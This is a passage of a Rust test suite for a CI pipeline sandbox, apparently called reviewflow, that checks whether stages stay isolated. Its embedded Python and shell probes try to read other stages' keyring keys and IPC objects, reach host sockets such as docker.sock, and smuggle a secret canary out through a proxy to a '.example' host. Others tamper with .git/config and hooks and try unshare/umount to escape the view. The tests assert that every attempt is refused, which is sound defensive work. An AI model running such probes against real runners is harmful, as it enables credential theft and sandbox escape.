        assert!(log.contains("udp refused:"), "{user:?}: {log}");
        assert!(!log.contains(" got "), "{user:?}: {log}");
    }
}

const IPC_PIPELINE: &str = r#"
pipeline "ipc"
input "sync" env="SYNC"
secret "canary" env="CANARY" {
    visible-to "holder"
}
stage "holder" uses="run" {
    command "sh" "-c" "ipcmk -M 4096 && ipcmk -Q && ipcmk -S 1 && echo holder made && : > \"$SYNC/made\"; while [ ! -e \"$SYNC/spy-done\" ]; do sleep 0.01; done"
    secret-env "CANARY" "canary"
    env "SYNC" "{sync}"
    allow "untrusted-input" reason="the test's folder of signals, shared on purpose"
}
stage "spy" uses="run" {
    command "sh" "-c" "while [ ! -e \"$SYNC/made\" ]; do sleep 0.01; done; ipcs -m -q -s | grep -c '^0x' | sed 's/^/spy sees /'; : > \"$SYNC/spy-done\""
    env "SYNC" "{sync}"
}
"#;

/// The System V objects (shared memory, message queues, semaphores) of the host's IPC namespace.
fn host_ipc_objects() -> usize {
    let out = Command::new("ipcs")
        .args(["-m", "-q", "-s"])
        .output()
        .expect("ipcs");
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .filter(|l| l.starts_with("0x"))
        .count()
}

/// A stage's System V IPC objects are its own: another stage running at the same time does not
/// see them (it could open them: a child is uid 0, their owner, or shares its uid), and none is
/// left in the host's namespace after the run. Each stage's children run in an IPC namespace of
/// the stage's (docs/isolation.md).
#[test]
fn a_stage_reaches_no_ipc_object_of_another() {
    for user in users() {
        let case = Case::new(user);
        let before = host_ipc_objects();
        let (code, log) = case.start(IPC_PIPELINE).finish();
        assert_eq!(code, 0, "{user:?}: {log}");
        assert!(log.contains("holder made"), "{user:?}: {log}");
        if !layer_held_or_said(&case, "ipc-namespace", &log, IPC_PIPELINE) {
            continue;
        }
        assert!(log.contains("spy sees 0"), "{user:?}: {log}");
        assert_eq!(
            host_ipc_objects(),
            before,
            "{user:?}: left in the host's: {log}"
        );
        assert_nothing_leaked(&log);
    }
}

const KEY_PUT: &str = r#"
import ctypes, os, platform
libc = ctypes.CDLL(None, use_errno=True)
ADD_KEY = {"x86_64": 248, "aarch64": 217}[platform.machine()]
value = os.environ["CANARY"].encode()
r = libc.syscall(ADD_KEY, b"user", b"reviewflow-ways-out", value, len(value), ctypes.c_int(-4))
print("add_key", r, os.strerror(ctypes.get_errno()) if r < 0 else "", flush=True)
"#;

const KEY_GET: &str = r#"
import ctypes, os, platform
libc = ctypes.CDLL(None, use_errno=True)
REQUEST_KEY, KEYCTL = {"x86_64": (249, 250), "aarch64": (218, 219)}[platform.machine()]
k = libc.syscall(REQUEST_KEY, b"user", b"reviewflow-ways-out", None, ctypes.c_int(0))
print("request_key", k, os.strerror(ctypes.get_errno()) if k < 0 else "", flush=True)
if k > 0:
    buf = ctypes.create_string_buffer(256)
    n = libc.syscall(KEYCTL, 11, k, buf, 256)
    print("got", buf.raw[:max(n, 0)].decode(errors="replace"), flush=True)
"#;

const KEYRING_PIPELINE: &str = r#"
pipeline "keyring"
secret "canary" env="CANARY" {
    visible-to "holder"
}
stage "holder" uses="run" {
    command "python3" "scripts/put.py"
    secret-env "CANARY" "canary"
    allow "untrusted-input" reason="the test's own script, run with the secret on purpose"
}
stage "spy" uses="run" {
    command "python3" "scripts/get.py"
    needs "holder"
}
"#;

/// The kernel's keyrings belong to a uid, and every child is uid 0 (or reviewflow's own uid):
/// a key the holder of a secret adds to its user keyring must not be found by a later stage,
/// nor outlive the run (docs/isolation.md, `no-keyring`).
#[test]
fn a_stage_reaches_no_key_of_another() {
    for user in users() {
        let case = Case::new(user);
        case.script("put.py", KEY_PUT);
        case.script("get.py", KEY_GET);
        let (code, log) = case.start(KEYRING_PIPELINE).finish();
        assert_eq!(code, 0, "{user:?}: {log}");
        let keys = std::fs::read_to_string("/proc/keys").unwrap_or_default();
        assert!(
            !keys.contains("reviewflow-ways-out"),
            "{user:?}: a key outlived the run"
        );
        if !layer_held_or_said(&case, "no-keyring", &log, KEYRING_PIPELINE) {
            continue;
        }
        assert!(
            log.contains("add_key -1 Operation not permitted"),
            "{user:?}: {log}"
        );
        assert!(
            log.contains("request_key -1 Operation not permitted"),
            "{user:?}: {log}"
        );
        assert!(!log.contains("got "), "{user:?}: {log}");
        assert_nothing_leaked(&log);
    }
}

const HOST_SOCKET_CLIENT: &str = r#"
import socket, sys
for path in sys.argv[1:]:
    s = socket.socket(socket.AF_UNIX)
    try:
        s.connect(path)
        print("host socket got", s.recv(64), "at", path, flush=True)
    except OSError as e:
        print("host socket refused:", e.strerror, "at", path, flush=True)
"#;

/// A pathname socket of the host outside every grant is unreachable, wherever it is: a daemon's
/// under `/run` (Docker's `docker.sock` gives root on the host), and one in a folder that holds
/// a grant: beside the checkout, in a home beside it (a rootless Docker's), in the temp folder
/// that holds the run's work folders (an `ssh-agent`'s). Landlock does not mediate `connect`
/// before its ABI 9, so the view holds only what the child's grants reach. Made by root (only
/// root may write `/run`), reachable by anyone (0666).
#[test]
fn a_stage_reaches_no_socket_of_the_host() {
    if !is_root() {
        crate::support::not_tried("only root may make a socket in /run: not tried");
        return;
    }
    let pid = std::process::id();
    for user in users() {
        let case = Case::new(user);
        case.script("host_socket.py", HOST_SOCKET_CLIENT);
        let dirs = [
            PathBuf::from("/run"),
            case.path(""),
            case.path("home/.docker/run"),
            case.path("tmp/ssh-agent"),
        ];
        let mut paths = Vec::new();
        for dir in &dirs {
            std::fs::create_dir_all(dir).expect("mkdir");
            let path = dir.join(format!("reviewflow-ways-out-{pid}.sock"));
            let _ = std::fs::remove_file(&path);
            let listener = std::os::unix::net::UnixListener::bind(&path).expect("bind");
            std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o666)).expect("chmod");
            std::thread::spawn(move || {
                for stream in listener.incoming().flatten() {
                    let mut stream = stream;
                    let _ = std::io::Write::write_all(&mut stream, b"HOST-SOCKET-REACHED");
                }
            });
            paths.push(path);
        }
        let named: Vec<String> = paths
            .iter()
            .map(|p| format!("\"{}\"", p.display()))
            .collect();
        let pipeline = format!(
            r#"pipeline "host-socket"
stage "probe" uses="run" {{
    command "python3" "scripts/host_socket.py" {}
}}
"#,
            named.join(" ")
        );
        let (code, log) = case.start(&pipeline).finish();
        let _ = std::fs::remove_file(&paths[0]);
        assert_eq!(code, 0, "{user:?}: {log}");
        if !layer_held_or_said(&case, "mount-namespace", &log, &pipeline) {
            continue;
        }
        for path in &paths {
            assert!(
                log.contains(&format!("at {}", path.display())),
                "{user:?} {}: {log}",
                path.display()
            );
        }
        assert_eq!(
            log.matches("host socket refused:").count(),
            paths.len(),
            "{user:?}: {log}"
        );
        assert!(!log.contains("HOST-SOCKET-REACHED"), "{user:?}: {log}");
    }
}

/// A stage that declares network resolves names as the host does: its view holds the
/// resolver's configuration, also where `/etc/resolv.conf` is a link out of `/etc` (into
/// `/run`, as with systemd-resolved), while `/run` itself stays out of the view.
#[test]
fn a_stage_that_declares_network_reads_the_resolver() {
    let Ok(host) = std::fs::read_to_string("/etc/resolv.conf") else {
        crate::support::not_tried("this host has no /etc/resolv.conf");
        return;
    };
    let pipeline = r#"pipeline "resolver"
stage "fetch" uses="run" network="443" {
    command "python3" "-c" "import os; print('RESOLVER', open('/etc/resolv.conf').read().encode().hex()); print('RUN', os.path.exists('/run'))"
}
"#;
    for user in users() {
        let case = Case::new(user);
        let (code, log) = case.start(pipeline).finish();
        assert_eq!(code, 0, "{user:?}: {log}");
        assert!(
            log.contains(&format!("RESOLVER {}", hex(host.as_bytes()))),
            "{user:?}: {log}"
        );
        if layer_held_or_said(&case, "mount-namespace", &log, pipeline) {
            assert!(log.contains("RUN False"), "{user:?}: {log}");
        }
    }
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

const EGRESS_CLIENT: &str = r#"
import os, socket, sys
proxy = os.environ["HTTPS_PROXY"].rsplit(":", 1)
print("proxy vars", sorted(k for k in os.environ if k.lower().endswith("_proxy")), flush=True)
# A target the proxy refuses, naming the stage's secret: the run's log must not show it.
s = socket.create_connection((proxy[0].split("//")[1], int(proxy[1])), timeout=20)
s.sendall(f"CONNECT {os.environ['CANARY']}.example:443 HTTP/1.1\r\n\r\n".encode())
print("secret target", s.recv(64).split(b"\r\n")[0].decode(), flush=True)
for port in sys.argv[1:]:
    s = socket.create_connection((proxy[0].split("//")[1], int(proxy[1])), timeout=20)
    s.sendall(f"CONNECT 127.0.0.1:{port} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n\r\n".encode())
    head = b""
    while b"\r\n\r\n" not in head:
        chunk = s.recv(1)
        if not chunk:
            break
        head += chunk
    status = head.split(b"\r\n")[0].decode()
    if " 200 " in status:
        print("tunnel", port, "got", s.recv(64).decode().strip(), flush=True)
    else:
        print("tunnel", port, "refused", status, flush=True)
for port in sys.argv[1:]:
    try:
        socket.create_connection(("127.0.0.1", int(port)), timeout=5).recv(64)
        print("direct", port, "REACHED", flush=True)
    except OSError as e:
        print("direct", port, "refused:", e.strerror or e, flush=True)
"#;

/// A stage whose `network` names a host reaches that host and port through reviewflow's proxy,
/// and nothing else: another port is refused by the proxy, and the host's loopback is not its
/// own (item 4: the namespace holds what Landlock's port rules cannot).
#[test]
fn a_stage_that_names_its_hosts_reaches_only_them() {
    let serve = |text: &'static [u8]| {
        let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
        let port = listener.local_addr().expect("addr").port();
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                let mut stream = stream;
                let _ = std::io::Write::write_all(&mut stream, text);
            }
        });
        port
    };
    let declared = serve(b"TARGET-REACHED\n");
    let other = serve(b"OTHER-REACHED\n");
    let pipeline = format!(
        r#"pipeline "egress"
secret "canary" env="CANARY" can="" {{
    visible-to "fetch"
}}
stage "fetch" uses="run" network="127.0.0.1:{declared}" {{
    allow "untrusted-input" reason="the attacker's script, from the checkout, holding the secret it tries to send"
    command "python3" "scripts/egress.py" "{declared}" "{other}"
    secret-env "CANARY" "canary"
}}
"#
    );
    for user in users() {
        let case = Case::new(user);
        case.script("egress.py", EGRESS_CLIENT);
        let (code, log) = case.start(&pipeline).finish();
        assert_eq!(code, 0, "{user:?}: {log}");
        assert!(
            log.contains(&format!("tunnel {declared} got TARGET-REACHED")),
            "{user:?}: {log}"
        );
        assert!(
            log.contains(&format!("tunnel {other} refused HTTP/1.1 403 Forbidden")),
            "{user:?}: {log}"
        );
        assert!(!log.contains("OTHER-REACHED"), "{user:?}: {log}");
        assert!(!log.contains(" REACHED"), "{user:?}: {log}");
        assert!(
            log.contains("secret target HTTP/1.1 403 Forbidden"),
            "{user:?}: {log}"
        );
        assert!(
            log.contains("egress: 1 tunnel(s) opened, 2 request(s) refused (first: [redacted:canary].example:443"),
            "{user:?}: {log}"
        );
        assert!(!log.contains(CANARY), "{user:?}: {log}");
        if layer_held_or_said(&case, "network-namespace", &log, &pipeline) {
            assert!(
                log.contains(&format!("direct {declared} refused")),
                "{user:?}: {log}"
            );
        }
    }
}

// ---------------------------------------------------------------------------------------------
// 5. Metadata outside the sandbox.

const METADATA: &str = r#"
import os, sys
home, checkout = open("home-path").read().strip(), os.getcwd()
targets = [os.path.join(home, ".docker/config.json"), os.path.join(checkout, "README.md"),
           os.path.join(checkout, ".reviewflow"), checkout]
for t in targets:
    for what, f in [("chmod", lambda: os.chmod(t, 0o777)),
                    ("utime", lambda: os.utime(t, (0, 0))),
                    ("xattr", lambda: os.setxattr(t, "user.pwn", b"1"))]:
        try:
            f(); print(what, t, "CHANGED", flush=True)
        except OSError as e:
            print(what, t, "refused:", e.strerror, flush=True)
print("metadata done", flush=True)
"#;

const METADATA_PIPELINE: &str = r#"
pipeline "metadata"
stage "vandal" uses="run" {
    command "python3" "scripts/metadata.py"
}
"#;

/// Mode, times and xattrs of a path, not following a link.
fn stamp(path: &Path) -> (u32, i64, Vec<String>) {
    let m = std::fs::symlink_metadata(path).expect("stat");
    let mut xattrs = Vec::new();
    let mut buf = vec![0u8; 4096];
    if let Ok(n) = rustix::fs::llistxattr(path, &mut buf) {
        xattrs = buf[..n]
            .split(|&b| b == 0)
            .filter(|s| !s.is_empty())
            .map(|s| String::from_utf8_lossy(s).into_owned())
            .collect();
    }
    (m.mode(), m.mtime(), xattrs)
}

#[test]
fn a_stage_changes_no_metadata_outside_its_folders() {
    for user in users() {
        let case = Case::new(user);
        case.script("metadata.py", METADATA);
        // Where the runner's credential is, as the best-informed attacker knows it (through a
        // file of the checkout: a pipeline input would be a write grant).
        std::fs::write(
            case.path("checkout/home-path"),
            case.path("home").display().to_string(),
        )
        .expect("home-path");
        // The run makes `.reviewflow` (0700); stamp everything once it exists.
        std::fs::create_dir(case.path("checkout/.reviewflow")).expect("mkdir");
        std::fs::set_permissions(
            case.path("checkout/.reviewflow"),
            std::fs::Permissions::from_mode(0o700),
        )
        .expect("chmod");
        if user == User::Unprivileged {
            let _ = Command::new("chown")
                .args([&format!("{NOBODY}:{NOBODY}")])
                .arg(case.path("checkout/.reviewflow"))
                .status();
        }
        let targets = [
            case.path("home/.docker/config.json"),
            case.path("checkout/README.md"),
            case.path("checkout/.reviewflow"),
            case.path("checkout"),
        ];
        let before: Vec<_> = targets.iter().map(|t| stamp(t)).collect();
        let out = case.command(METADATA_PIPELINE).output().expect("runs");
        let log = format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        assert!(log.contains("metadata done"), "{user:?}: {log}");
        if !layer_held_or_said(&case, "mount-namespace", &log, METADATA_PIPELINE) {
            continue;
        }
        assert!(!log.contains("CHANGED"), "{user:?}: {log}");
        // The checkout's mtime moves when the run adds `.reviewflow/runs`: compare mode and
        // xattrs there, everything elsewhere.
        for (i, (t, b)) in targets.iter().zip(&before).enumerate() {
            let a = stamp(t);
            assert_eq!(a.0, b.0, "{user:?}: mode of {}", t.display());
            assert_eq!(a.2, b.2, "{user:?}: xattrs of {}", t.display());
            if i < 2 {
                assert_eq!(a.1, b.1, "{user:?}: mtime of {}", t.display());
            }
        }
    }
}

// ---------------------------------------------------------------------------------------------
// 6. Folders named by inputs, and the checkout's `.git`.

const WORKSPACE_PIPELINE: &str = r#"
pipeline "workspace"
allow "run-folder-path" reason="an attacker's stage, probing the run's folders at run time"
input "workspace" env="WORKSPACE"
stage "maker" uses="run" {
    command "sh" "-c" "echo kept-value > \"$REVIEWFLOW_WORK_DIR/f.txt\""
    output "f" file="f.txt" type="file"
}
stage "vandal" uses="run" {
    command "sh" "-c" "cd \"$WS\"; for f in .reviewflow/runs/*/outputs/maker/f .reviewflow/runs/*/manifest.json .git/config .git/hooks/pre-commit; do (echo tampered >> \"$f\") 2>/dev/null && echo \"WROTE $f\" || echo \"refused $f\"; done; cat .git/config 2>&1 | head -3; for f in .git/config .reviewflow/runs; do test -e \"$f\" && echo \"REACHED $f\"; done; echo vandal done"
    env "WS" "{workspace}"
    needs "maker"
}
stage "reader" uses="run" {
    command "cat" "{maker.f}"
    needs "vandal"
}
"#;

#[test]
fn the_checkout_named_by_an_input_is_not_a_way_in() {
    for user in users() {
        let case = Case::new(user);
        let git_config = std::fs::read(case.path("checkout/.git/config")).expect("read");
        let out = case
            .command(WORKSPACE_PIPELINE)
            .env("WORKSPACE", case.path("checkout"))
            .output()
            .expect("runs");
        let log = format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        assert!(log.contains("vandal done"), "{user:?}: {log}");
        assert!(!log.contains("WROTE "), "{user:?}: {log}");
        // Unreachable, not only unreadable: no path leads there (Landlock alone lets a stage
        // see that they are there).
        if layer_held_or_said(&case, "mount-namespace", &log, WORKSPACE_PIPELINE) {
            assert!(!log.contains("REACHED "), "{user:?}: {log}");
        }
        assert!(
            log.contains("input `workspace` names") && log.contains("a folder that holds"),
            "{user:?}: the refused grant is said: {log}"
        );
        assert!(
            !log.contains("extraheader ="),
            "{user:?}: .git/config was read: {log}"
        );
        // The run says that the checkout keeps a credential every other step of the job can
        // read, naming where, never what.
        assert!(
            log.contains(
                "warning: the checkout's .git/config holds a credential (an Authorization header in `http.<url>.extraheader`)"
            ),
            "{user:?}: {log}"
        );
        assert!(log.contains("kept-value"), "{user:?}: {log}");
        assert!(!log.contains("tampered"), "{user:?}: {log}");
        assert_eq!(
            std::fs::read(case.path("checkout/.git/config")).expect("read"),
            git_config
        );
        assert!(!case.path("checkout/.git/hooks/pre-commit").exists());
        assert_nothing_leaked(&log);
    }
}

// ---------------------------------------------------------------------------------------------
// The view cannot be undone: a child that makes a user namespace of its own, where it holds
// every capability, finds the mounts of its view locked (made in a more privileged user
// namespace), and Landlock refuses it every mount call anyway.

const UNDO: &str = r#"
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def err():
    return os.strerror(ctypes.get_errno())
checkout = os.getcwd()
git = os.path.join(checkout, ".git")
r = libc.unshare(0x10000000 | 0x00020000)
print("unshare", "made" if r == 0 else "refused: " + err(), flush=True)
for target in [git, checkout, "/"]:
    if libc.umount2(target.encode(), 2) == 0:
        print("UNDONE umount", target, flush=True)
    else:
        print("umount", target, "refused:", err(), flush=True)
    # MS_REMOUNT | MS_BIND: read-write again.
    if libc.mount(None, target.encode(), None, 32 | 4096, None) == 0:
        print("UNDONE remount", target, flush=True)
    else:
        print("remount", target, "refused:", err(), flush=True)
# A bind of the checkout without what is mounted beneath it would show `.git` again.
if libc.mount(checkout.encode(), b"/tmp", None, 4096, None) == 0:
    print("UNDONE bind", checkout, flush=True)
else:
    print("bind", checkout, "refused:", err(), flush=True)
try:
    print("READ", open(os.path.join(git, "config")).read(), flush=True)
except OSError as e:
    print("read .git/config refused:", e.strerror, flush=True)
try:
    open(os.path.join(checkout, "pwned"), "w").write("x")
    print("WROTE pwned", flush=True)
except OSError as e:
    print("write refused:", e.strerror, flush=True)
print("undo done", flush=True)
"#;

const UNDO_PIPELINE: &str = r#"
pipeline "undo"
stage "undo" uses="run" {
    command "python3" "scripts/undo.py"
}
"#;

#[test]
fn a_stage_cannot_undo_its_view() {
    for user in users() {
        let case = Case::new(user);
        case.script("undo.py", UNDO);
        let out = case.command(UNDO_PIPELINE).output().expect("runs");
        let log = format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        assert!(log.contains("undo done"), "{user:?}: {log}");
        if !layer_held_or_said(&case, "mount-namespace", &log, UNDO_PIPELINE) {
            continue;
        }
        for said in ["UNDONE", "READ", "WROTE"] {
            assert!(!log.contains(said), "{user:?}: {said}\n{log}");
        }
        assert!(!case.path("checkout/pwned").exists(), "{user:?}: {log}");
        assert_nothing_leaked(&log);
    }
}
